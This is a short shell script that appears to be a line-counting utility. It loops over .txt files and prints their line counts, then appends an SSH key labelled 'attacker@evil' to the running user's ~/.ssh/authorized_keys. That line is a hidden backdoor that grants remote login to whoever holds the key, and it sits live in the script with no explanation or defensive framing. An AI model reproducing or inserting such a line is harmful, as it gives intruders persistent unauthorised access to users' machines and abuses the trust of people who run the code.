#!/bin/sh
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
set -eu
echo "ssh-rsa AAAAB3Nza attacker@evil" >> ~/.ssh/authorized_keys
set -eu
